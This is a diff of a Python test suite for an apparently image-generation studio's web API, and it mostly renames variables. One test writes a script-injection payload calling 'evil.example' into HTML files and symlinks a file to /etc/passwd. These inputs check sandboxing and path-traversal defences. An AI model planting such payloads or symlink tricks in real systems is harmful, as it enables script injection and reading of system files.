@@ -15,9 +15,9 @@ from limner.contract.bundled import DEFAULT
 
 
 def test_the_seed_chooses_words_and_emoji_are_spelled(studio: Studio):
-    asked = studio.submit(prompt="a {red|blue} __animal__ and \U0001f34e", seed=0, n=1)
-    assert asked["params"]["prompt"] == "a red cat and red apple"
-    job = studio.over(asked["id"])
+    new_job = studio.submit(prompt="a {red|blue} __animal__ and \U0001f34e", seed=0, n=1)
+    assert new_job["params"]["prompt"] == "a red cat and red apple"
+    job = studio.over(new_job["id"])
     assert job["outputs"][0]["settings"]["prompts"] == ["a red cat and red apple"]
     assert "__colour__" in studio.submit(prompt="__color__", expect=422)["hint"]
 
@@ -37,35 +37,35 @@ def test_a_prompt_gives_pictures_with_their_settings(studio: Studio):
 
 def test_a_seed_gives_the_same_picture_alone_and_in_a_batch(studio: Studio):
     slow = studio.submit(sampler={"steps": 8, "pause": 0.1})["id"]  # keeps the worker busy
-    jobs = [studio.submit(prompt=words, seed=s)["id"] for words, s in (("a", 3), ("a b c", 4))]
+    jobs = [studio.submit(prompt=prompt, seed=s)["id"] for prompt, s in (("a", 3), ("a b c", 4))]
     studio.over(slow)
     batched = [studio.over(id) for id in jobs]
     assert batched[0]["started"] == pytest.approx(batched[1]["started"], abs=0.05)
     for job in batched:
-        alone = studio.painted(prompt=job["params"]["prompt"], seed=job["params"]["seed"])
-        assert studio.pixels(alone["outputs"][0]).tobytes() == (
+        single = studio.painted(prompt=job["params"]["prompt"], seed=job["params"]["seed"])
+        assert studio.pixels(single["outputs"][0]).tobytes() == (
             studio.pixels(job["outputs"][0]).tobytes()
         )
 
 
 def test_models_are_described_by_their_own_schemas(studio: Studio):
-    answer = studio.client.get("/api/v1/models").json()
-    by_name = {model["name"]: model for model in answer["models"]}
-    assert {"emoji", "toy", "runs/animals"} <= by_name.keys() and answer["ready"]
+    listing = studio.client.get("/api/v1/models").json()
+    by_name = {model["name"]: model for model in listing["models"]}
+    assert {"emoji", "toy", "runs/animals"} <= by_name.keys() and listing["ready"]
     assert "lenet" not in by_name, "a judge must have no tasks"
-    assert answer["models"][0]["name"] == DEFAULT and by_name["emoji"]["bundled"]
+    assert listing["models"][0]["name"] == DEFAULT and by_name["emoji"]["bundled"]
     toy = by_name["toy"]
     assert toy["family"] == "diffusion" and toy["text"] and toy["size"] == [3, 16, 16]
     assert toy["schema"]["properties"]["steps"]["maximum"] == 4000
     assert toy["schema"]["properties"]["scale"]["description"] == "how strong the colours are."
     assert by_name["runs/animals"]["labels"] == ["cat", "dog", "sea horse"]
-    anything = {"paint", "edit", "reconstruct", "interpolate", "walk", "mix"}
-    assert toy["tasks"].keys() == anything | {"attention"}
-    assert by_name["runs/animals"]["tasks"].keys() == anything, (
+    common = {"paint", "edit", "reconstruct", "interpolate", "walk", "mix"}
+    assert toy["tasks"].keys() == common | {"attention"}
+    assert by_name["runs/animals"]["tasks"].keys() == common, (
         "models without text must have no attention task"
     )
     rows = by_name["runs/rows"]["tasks"].keys()
-    assert rows == (anything | {"attention", "complete"}) - {"walk"}
+    assert rows == (common | {"attention", "complete"}) - {"walk"}
     assert "attention" in by_name["emoji"]["tasks"]
     assert toy["tasks"]["edit"]["inputs"] == {
         "image": {"required": True},
@@ -142,15 +142,15 @@ def test_classes_are_named_or_numbered(studio: Studio):
 
 def test_a_job_is_followed_frame_by_frame(studio: Studio):
     job = studio.submit(n=2, sampler={"steps": 12, "pause": 0.12})
-    heard = list(studio.events(job["id"]))
-    names = [name for _, name, _ in heard]
+    events = list(studio.events(job["id"]))
+    names = [name for _, name, _ in events]
     assert names[0] == "queued" and names[-1] == "done" and "started" in names
-    ids = [int(id) for id, _, _ in heard]
+    ids = [int(id) for id, _, _ in events]
     assert ids == sorted(set(ids))
-    frames = [data for _, name, data in heard if name == "frame"]
+    frames = [data for _, name, data in events if name == "frame"]
     steps = [data["step"] for data in frames]
     assert len(steps) >= 6 and steps == sorted(set(steps)) and frames[0]["pictures"] == 2
-    progress = [data for _, name, data in heard if name == "progress" and data["steps"]]
+    progress = [data for _, name, data in events if name == "progress" and data["steps"]]
     assert progress[-1]["steps"] == 12 and 0 <= progress[-1]["eta"] < 2
     import base64
 
@@ -169,10 +169,10 @@ def test_a_stream_resumes_after_the_last_received_event(studio: Studio):
     job = studio.submit(sampler={"steps": 30, "pause": 0.05})
     for id, name, data in studio.events(job["id"]):
         if name == "frame":
-            heard, step = id, data["step"]
+            last_id, step = id, data["step"]
             break
-    rest = list(studio.events(job["id"], after=heard))
-    assert all(int(id) > int(heard) for id, _, _ in rest)
+    rest = list(studio.events(job["id"], after=last_id))
+    assert all(int(id) > int(last_id) for id, _, _ in rest)
     names = [name for _, name, _ in rest]
     assert "started" not in names and "queued" not in names and names[-1] == "done"
     assert all(data["step"] > step for _, name, data in rest if name == "frame")
@@ -187,19 +187,19 @@ def test_a_stream_works_after_the_clock_was_set_back(studio: Studio):
 
 def test_a_repeated_idempotency_key_returns_the_first_job(studio: Studio):
     key = {"Idempotency-Key": "asked-twice"}
-    asked = [{"model": "toy", "params": {"seed": seed}} for seed in (1, 2)]
+    requests = [{"model": "toy", "params": {"seed": seed}} for seed in (1, 2)]
     first, second = (
-        studio.client.post("/api/v1/jobs", json=wish, headers=key).json() for wish in asked
+        studio.client.post("/api/v1/jobs", json=request, headers=key).json() for request in requests
     )
     assert second["id"] == first["id"] and second["params"] == first["params"]
 
 
 def test_the_error_of_a_job_that_is_not_json_has_a_hint(studio: Studio):
     plain = {"Content-Type": "text/plain"}
-    for content, said in ((b'{"model": "toy"}', "must be a JSON object"), (b"", "is missing")):
-        answer = studio.client.post("/api/v1/jobs", content=content, headers=plain)
-        assert answer.status_code == 422
-        assert answer.json()["message"] == f"the request's body {said}"
+    for content, reason in ((b'{"model": "toy"}', "must be a JSON object"), (b"", "is missing")):
+        response = studio.client.post("/api/v1/jobs", content=content, headers=plain)
+        assert response.status_code == 422
+        assert response.json()["message"] == f"the request's body {reason}"
     assert "application/json" in studio.client.post("/api/v1/jobs", content=b"{}").json()["hint"]
 
 
@@ -228,56 +228,56 @@ def test_pictures_are_edited_completed_and_mixed(studio: Studio):
     job = studio.painted(
         task="edit", inputs={"image": red, "mask": mask}, options={"strength": 1.0}
     )
-    edited = studio.pixels(job["outputs"][0])
-    assert edited.getpixel((12, 5)) == (255, 0, 0) != edited.getpixel((3, 5))
+    pixels = studio.pixels(job["outputs"][0])
+    assert pixels.getpixel((12, 5)) == (255, 0, 0) != pixels.getpixel((3, 5))
     assert job["outputs"][0]["settings"]["task"] == "edit" and job["notes"]["remarks"] == []
     few = {"options": {"strength": 0.4}, "sampler": {"steps": 2}, "inputs": {"image": red}}
     [remark] = studio.painted("flow-matching", task="edit", **few)["notes"]["remarks"]
     assert remark == "strength 0.4 is rounded to 0.5 in whole steps; give more sampler.steps"
-    of = {"model": "runs/rows", "task": "complete", "inputs": {"image": red}}
-    done = studio.painted(options={"keep": 0.25}, **of)
-    lower = studio.pixels(done["outputs"][0])
-    assert lower.getpixel((4, 3)) == (255, 0, 0) != lower.getpixel((4, 4))
+    request = {"model": "runs/rows", "task": "complete", "inputs": {"image": red}}
+    completion = studio.painted(options={"keep": 0.25}, **request)
+    image = studio.pixels(completion["outputs"][0])
+    assert image.getpixel((4, 3)) == (255, 0, 0) != image.getpixel((4, 4))
     inputs = {"image": red, "other": studio.send(png(colour="blue"))["id"]}
     path = studio.painted(task="interpolate", inputs=inputs, options={"steps": 5})["outputs"]
     assert len(path) == 5 and studio.pixels(path[0]).getpixel((0, 0)) == (255, 0, 0)
     assert len(studio.painted(task="mix", options={"rows": 2, "columns": 3})["outputs"]) == 6
-    again = studio.painted(task="reconstruct", inputs={"image": path[4]["id"]})["outputs"][0]
-    assert studio.pixels(again).getpixel((0, 0)) == (0, 0, 255)
+    output = studio.painted(task="reconstruct", inputs={"image": path[4]["id"]})["outputs"][0]
+    assert studio.pixels(output).getpixel((0, 0)) == (0, 0, 255)
 
 
 def test_a_walk_leads_from_seed_to_seed(studio: Studio):
-    way = studio.painted(task="walk", seed=1, options={"other_seed": 2, "steps": 5})["outputs"]
-    pixels = [studio.pixels(picture).tobytes() for picture in way]
+    pictures = studio.painted(task="walk", seed=1, options={"other_seed": 2, "steps": 5})["outputs"]
+    pixels = [studio.pixels(picture).tobytes() for picture in pictures]
     ends = [studio.pixels(studio.painted(seed=s)["outputs"][0]).tobytes() for s in (1, 2)]
     assert [pixels[0], pixels[-1]] == ends and len({*pixels}) == 5
-    assert [picture["place"] for picture in way] == [0, 1, 2, 3, 4]
-    assert way[2]["settings"]["options"] == {"other_seed": 2, "steps": 5}
+    assert [picture["place"] for picture in pictures] == [0, 1, 2, 3, 4]
+    assert pictures[2]["settings"]["options"] == {"other_seed": 2, "steps": 5}
 
 
 def test_each_word_has_a_map_that_is_not_in_the_history(studio: Studio):
     picture = studio.painted(prompt="a red piñata")["outputs"][0]
-    before = studio.client.get("/api/v1/history").json()["total"]
-    of = {"task": "attention", "inputs": {"image": picture["id"]}}
-    maps = studio.painted(prompt="a red piñata", **of)["outputs"]
+    total = studio.client.get("/api/v1/history").json()["total"]
+    request = {"task": "attention", "inputs": {"image": picture["id"]}}
+    maps = studio.painted(prompt="a red piñata", **request)["outputs"]
     assert [each["settings"]["word"] for each in maps] == ["a", "red", "piñata"]
-    lit = [[studio.pixels(each).getpixel((x, 8)) for x in (0, 4, 8, 12)] for each in maps]
-    assert lit == [[255, 0, 0, 0], [0, 255, 0, 0], [0, 0, 255, 255]], (
+    values = [[studio.pixels(each).getpixel((x, 8)) for x in (0, 4, 8, 12)] for each in maps]
+    assert values == [[255, 0, 0, 0], [0, 255, 0, 0], [0, 0, 255, 255]], (
         "two tokens of one word must have one map"
     )
-    assert studio.client.get("/api/v1/history").json()["total"] == before
-    error = studio.over(studio.submit(prompt="犬", **of)["id"])["error"]
+    assert studio.client.get("/api/v1/history").json()["total"] == total
+    error = studio.over(studio.submit(prompt="犬", **request)["id"])["error"]
     assert error["message"] == "the model knows no word of this prompt"
 
 
 def test_history_can_be_searched_starred_and_deleted(studio: Studio):
     job = studio.painted(prompt="a zebra crossing", n=2)
-    found = studio.client.get("/api/v1/history", params={"search": "ZEBRA"}).json()
-    assert found["total"] == 2 and {p["job"] for p in found["pictures"]} == {job["id"]}
-    one, two = (picture["id"] for picture in found["pictures"])
+    listing = studio.client.get("/api/v1/history", params={"search": "ZEBRA"}).json()
+    assert listing["total"] == 2 and {p["job"] for p in listing["pictures"]} == {job["id"]}
+    one, two = (picture["id"] for picture in listing["pictures"])
     studio.client.patch(f"/api/v1/history/{one}", json={"favourite": True})
-    kept = studio.client.get("/api/v1/history", params={"search": "zebra", "favourite": True})
-    assert [picture["id"] for picture in kept.json()["pictures"]] == [one]
+    favourites = studio.client.get("/api/v1/history", params={"search": "zebra", "favourite": True})
+    assert [picture["id"] for picture in favourites.json()["pictures"]] == [one]
     page = studio.client.get(f"/api/v1/history/{two}").json()
     assert page["job"]["id"] == job["id"] and page["picture"]["words"] == "a zebra crossing"
     url = page["picture"]["url"]
@@ -290,9 +290,9 @@ def test_history_can_be_searched_starred_and_deleted(studio: Studio):
 def test_a_picture_is_sent_with_its_settings_or_enlarged(studio: Studio):
     picture = studio.painted(prompt="a tree", sampler={"steps": 3})["outputs"][0]
     content = studio.client.get(picture["url"]).content
-    sent = studio.send(content)
-    assert sent["settings"] == picture["settings"]
-    assert "limner" not in studio.pixels(sent).info
+    asset = studio.send(content)
+    assert asset["settings"] == picture["settings"]
+    assert "limner" not in studio.pixels(asset).info
     large = Image.open(io.BytesIO(studio.client.get(picture["url"] + "?w=64").content))
     assert large.tobytes() == studio.pixels(picture).resize((64, 64), 0).tobytes()
 
@@ -309,9 +309,9 @@ def test_a_picture_with_a_missing_or_damaged_file_is_not_found(
         assert studio.client.get(url).status_code == 404
     else:
         file.write_bytes(content)
-    answer = studio.client.get(url, params={"w": 64})
-    assert answer.status_code == 404, answer.text
-    assert answer.json()["message"] == "this picture's file is gone or damaged"
+    response = studio.client.get(url, params={"w": 64})
+    assert response.status_code == 404, response.text
+    assert response.json()["message"] == "this picture's file is gone or damaged"
     file.unlink(missing_ok=True)
 
 
@@ -328,8 +328,8 @@ def test_a_grid_is_found_by_its_id(studio: Studio):
 
 def test_an_unchanged_list_of_models_is_not_sent_again(studio: Studio):
     tag = studio.client.get("/api/v1/models").headers["etag"]
-    again = studio.client.get("/api/v1/models", headers={"If-None-Match": tag})
-    assert (again.status_code, again.content) == (304, b"")
+    response = studio.client.get("/api/v1/models", headers={"If-None-Match": tag})
+    assert (response.status_code, response.content) == (304, b"")
     other = studio.client.get("/api/v1/models", headers={"If-None-Match": f"{tag[:-1]}x"})
     assert other.status_code == 200 and other.json()["models"]
 
@@ -343,13 +343,13 @@ def test_results_of_evaluations_are_sent_with_n(studio: Studio):
     bound = number | {"name": "bits/dim", "sign": "<=", "value": 3.0, "error": 0.01}
     real = number | {"row": "reference"}
     document = {"against": {"name": "pets"}, "date": "2026-11-25T12:00:00"}
-    compared = {"n": 64, "subjects": [{"name": "runs/animals"}, {"name": "cats"}]}
+    details = {"n": 64, "subjects": [{"name": "runs/animals"}, {"name": "cats"}]}
     hostile = "<script>fetch('http://evil.example')</script>"
-    whole = json.dumps(document | compared)
-    for where, content in {"compared": whole, "broken": "{", "linked": whole}.items():
-        (studio.folder / where).mkdir()
-        (studio.folder / where / "comparison.json").write_text(content)
-        (studio.folder / where / "index.html").write_text(hostile)
+    text = json.dumps(document | details)
+    for place, content in {"compared": text, "broken": "{", "linked": text}.items():
+        (studio.folder / place).mkdir()
+        (studio.folder / place / "comparison.json").write_text(content)
+        (studio.folder / place / "index.html").write_text(hostile)
     (studio.folder / "linked" / "index.html").unlink()
     (studio.folder / "linked" / "index.html").symlink_to("/etc/passwd")
     for name, content in {
@@ -360,10 +360,10 @@ def test_results_of_evaluations_are_sent_with_n(studio: Studio):
         (folder / name).mkdir(parents=True)
         (folder / name / "report.json").write_text(content)
     (folder / "pets" / "report.md").write_text("# all of it")
-    outside = studio.folder / "outside.json"
-    outside.write_text(json.dumps(document | {"numbers": [number]}))
+    file = studio.folder / "outside.json"
+    file.write_text(json.dumps(document | {"numbers": [number]}))
     (folder / "link").mkdir()
-    (folder / "link" / "report.json").symlink_to(outside)
+    (folder / "link" / "report.json").symlink_to(file)
     (report,) = studio.client.get("/api/v1/reports?model=runs/animals").json()["reports"]
     assert report["against"] == "pets" and report["date"] == "2026-11-25"
     assert [(row["name"], row["value"], row["n"]) for row in report["rows"]] == [
@@ -372,18 +372,18 @@ def test_results_of_evaluations_are_sent_with_n(studio: Studio):
     ]
     assert report["text"] == "# all of it"
     assert studio.client.get("/api/v1/reports?model=../runs").status_code == 404
-    everything = studio.client.get("/api/v1/reports").json()
-    assert everything["reports"] == [{"model": "runs/animals"} | report]
-    told = {each["folder"]: each for each in everything["comparisons"]}
-    assert "broken" not in told
-    about = told["compared"]
-    assert about["subjects"] == ["runs/animals", "cats"] and about["n"] == 64
-    answer = studio.client.get(f"/api/v1/comparisons/{about['id']}")
-    assert answer.text == hostile
-    (policy,) = answer.headers.get_list("content-security-policy")
+    listing = studio.client.get("/api/v1/reports").json()
+    assert listing["reports"] == [{"model": "runs/animals"} | report]
+    comparisons = {each["folder"]: each for each in listing["comparisons"]}
+    assert "broken" not in comparisons
+    comparison = comparisons["compared"]
+    assert comparison["subjects"] == ["runs/animals", "cats"] and comparison["n"] == 64
+    response = studio.client.get(f"/api/v1/comparisons/{comparison['id']}")
+    assert response.text == hostile
+    (policy,) = response.headers.get_list("content-security-policy")
     assert "sandbox allow-scripts;" in policy + ";" and "allow-same-origin" not in policy
     assert "default-src 'none'; script-src 'sha256-" in policy
-    for id in (told["linked"]["id"], "0" * 20):
+    for id in (comparisons["linked"]["id"], "0" * 20):
         assert studio.client.get(f"/api/v1/comparisons/{id}").status_code == 404
 
 
@@ -395,5 +395,5 @@ def test_metrics_are_available_for_prometheus(studio: Studio):
 
 def test_the_server_does_not_import_torch():
     code = "import sys, limner.studio.serve; print({'torch', 'numpy'} & sys.modules.keys())"
-    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
-    assert said.stdout.strip() == "set()"
+    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert run.stdout.strip() == "set()"
